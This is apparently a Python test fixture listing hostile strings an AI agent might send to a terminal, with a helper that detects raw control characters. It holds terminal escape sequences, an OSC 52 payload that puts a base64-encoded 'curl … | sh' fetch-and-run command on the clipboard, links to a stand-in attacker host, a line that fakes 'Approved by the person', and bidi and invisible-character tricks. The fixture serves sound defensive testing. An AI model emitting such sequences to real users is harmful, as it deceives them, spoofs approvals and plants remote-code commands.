"""A corpus of hostile strings an agent may send, and the check that none reached a terminal raw."""

from __future__ import annotations

import unicodedata

HOSTILE_TEXT = [
    "\x1b[2J\x1b[H",  # clear the screen, cursor home
    "\x1b]0;pwned\x07",  # set the window title
    "\x1b]52;c;Y3VybCBodHRwOi8veC5leGFtcGxlIHwgc2g=\x07",  # OSC 52: put `curl … | sh` on the clipboard
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",  # a hyperlink
    "\x9b2J\x9d0;c1-title\x9c",  # the same with 8-bit C1 controls
    "ok\rApproved by the person",  # carriage return overwrites the line
    "\x1b[1A\x1b[2K",  # cursor up, erase the line
    "\u202egnp.exe\u202c",  # right-to-left override
    "\u2066isolated\u2069",  # bidi isolates
    "in\u200bvisible\u200d\ufeff",  # zero-width characters
    "\U000e0049\U000e0047\U000e004e",  # invisible tag characters
    "\x00\x08\x7f",
    "[bold red]markup[/][link=https://evil.example]x[/link]",
]
HOSTILE = "".join(HOSTILE_TEXT)


def raw_controls(text: str, *, allow: str = "\n") -> list[str]:
    """The characters in ``text`` that could act on a terminal or hide themselves (``allow`` excepted)."""
    return [ch for ch in text if ch not in allow and unicodedata.category(ch) in {"Cc", "Cf", "Cs", "Zl", "Zp"}]
